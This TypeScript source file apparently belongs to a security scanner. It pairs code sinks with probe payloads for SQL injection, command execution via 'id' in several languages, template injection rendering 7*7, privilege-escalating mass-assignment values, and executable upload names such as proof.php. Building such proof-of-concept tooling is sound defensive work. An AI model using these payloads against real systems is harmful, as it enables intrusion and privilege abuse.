/** How the same is said in the languages that payloads are written in: commands, templates, databases' own languages. */

interface StatementPart {
  api: RegExp;
  /** In files of these names alone: elsewhere calls of the same name take whole statements. */
  file?: RegExp;
  value: string;
  where: string;
}

/** Calls that take a part of a statement, by the ends of their names. */
const partsOfStatements: readonly StatementPart[] = [
  {
    api: /(?:order|group|pluck|column)\w*$|\.Arel\.sql$|^Arel\.sql$/i,
    value: '(CASE WHEN (1=1) THEN 1 ELSE 2 END)',
    where: 'as an expression of the statement',
  },
  {
    api: /(?:where|having|exists\?|find_by|destroy_by|extra)\w*$/i,
    value: '1=1',
    where: 'as a condition of the statement',
  },
  { api: /\b(?:re)?select$/, file: /\.rb$/, value: '(SELECT 1)', where: 'as a column of the result' },
  { api: /\bfrom$/, file: /\.rb$/, value: '(SELECT 1) AS injected', where: 'as a table of the statement' },
];

export function statementPart(sinkApi: string, path: string): StatementPart | undefined {
  return partsOfStatements.find(({ api, file }) => api.test(sinkApi) && (file?.test(path) ?? true));
}

/** How a command is run in the language of a file, and how texts are joined there. */
export const commands: readonly (readonly [file: RegExp, expression: string, join: string])[] = [
  [/\.pyw?$/, `__import__('os').popen('id').read()`, '+'],
  [/\.(?:php\d?|phtml|inc)$/, `shell_exec('id')`, '.'],
  [/\.(?:rb|erb|haml|slim|rake)$/, '`id`', '+'],
  [/\.(?:java|jsp|kt|groovy)$/, 'T(java.lang.Runtime).getRuntime().exec("id")', '+'],
  [/\.(?:cs|cshtml|aspx)$/, 'System.Diagnostics.Process.Start("id")', '+'],
  // What Go programs evaluate reaches no more than it is given.
  [/\.go$/, '7*7', '+'],
];

/** Code of another language than the file's: what runs it is known by its name. */
export const embedded: typeof commands = [
  [/redis/i, `redis.call('INFO')`, '..'],
  [/\blua\b|LState|\b(?:NLua|MoonSharp)\b/, 'os.execute("id")', '..'],
  [/\bIronPython\b|Microsoft\.Scripting\b/, `__import__('os').system('id')`, '+'],
];

/** Calls that take no code, but the name of some: a harmless one that is always there. */
export const namesOfCode: readonly (readonly [api: RegExp, value: string, where: string])[] = [
  [/(?:^|\.)(?:(?:safe_)?constantize|(?:qualified_)?const_get)$/, 'Kernel', 'as the name of a class'],
  [/(?:^|\.)(?:public_send|__send__|instance_method)$/, 'inspect', 'as the name of a method'],
  [/^(?:call_user_func|forward_static_call)(?:_array)?$/, 'phpinfo', 'as the name of a function'],
  [/^ReflectionFunction$/, 'phpinfo', 'as the name of a function'],
  [/^ReflectionClass$/, 'DateTime', 'as the name of a class'],
  [/^System\.(?:Type\.GetType|Activator\.CreateInstance)$/, 'System.Random', 'as the name of a type'],
  [/(?:^|\.)Class\.forName$/, 'javax.script.ScriptEngineManager', 'as the name of a class'],
];

/** Expression languages of Java name types in ways of their own: Spring's as it is written above, OGNL's `@type@`. */
export function inDialect(written: string, sinkApi: string): string {
  if (/ognl|xwork/i.test(sinkApi)) return written.replace(/T\(([\w.]+)\)\./, '@$1@');
  return /spel|springframework/i.test(sinkApi) ? written : written.replace(/T\(([\w.]+)\)/, '$1');
}

/** What shows 49 in the template engine that a call belongs to. */
export const templateDialects: readonly (readonly [engine: RegExp, value: string])[] = [
  [/ejs|lodash|underscore|eta|erub|(?:^|\.)erb$|AbstractController|ActionView/i, '<%= 7*7 %>'],
  [/pug|jade|haml|slim/i, '#{7*7}'],
  [/freemarker|mako|chameleon|genshi/i, `\${7*7}`],
  [/velocity/i, '#set($x=7*7)$x'],
  [/thymeleaf/i, `[[\${7*7}]]`],
  [/groovy|ConstraintValidatorContext/i, `\${7*7}`],
  [/text\/template|html\/template/, '{{printf "%d" 49}}'],
];

/** Whether a header belongs to a mail. */
export const isMail = /smtp|mail/i;

/** What a server runs, or a browser, when it is asked for the file: by the language that keeps it. */
const dangerousEndings: readonly (readonly [file: RegExp, ending: string])[] = [
  [/\.(?:php\d?|phtml|inc)$/, 'php'],
  [/\.(?:java|jsp|kt|groovy)$/, 'jsp'],
  [/\.(?:cs|cshtml|aspx|ashx)$/, 'aspx'],
];

/** A field that gives more rights, as the language of a file writes names. */
export function privilegedField(path: string): string {
  return /\.(?:py|rb|erb|rake|php|rs|go)$/.test(path) ? 'is_admin' : 'isAdmin';
}

/** What somebody would put into a field of this name. */
export function privilegedValue(field: string): string | number | true {
  if (/role|authorit|permission|privilege/i.test(field)) return 'admin';
  return /balance|credits|level/i.test(field) ? 1_000_000 : true;
}

export function dangerousFileName(file: string): string {
  return `proof.${dangerousEndings.find(([pattern]) => pattern.test(file))?.[1] ?? 'html'}`;
}
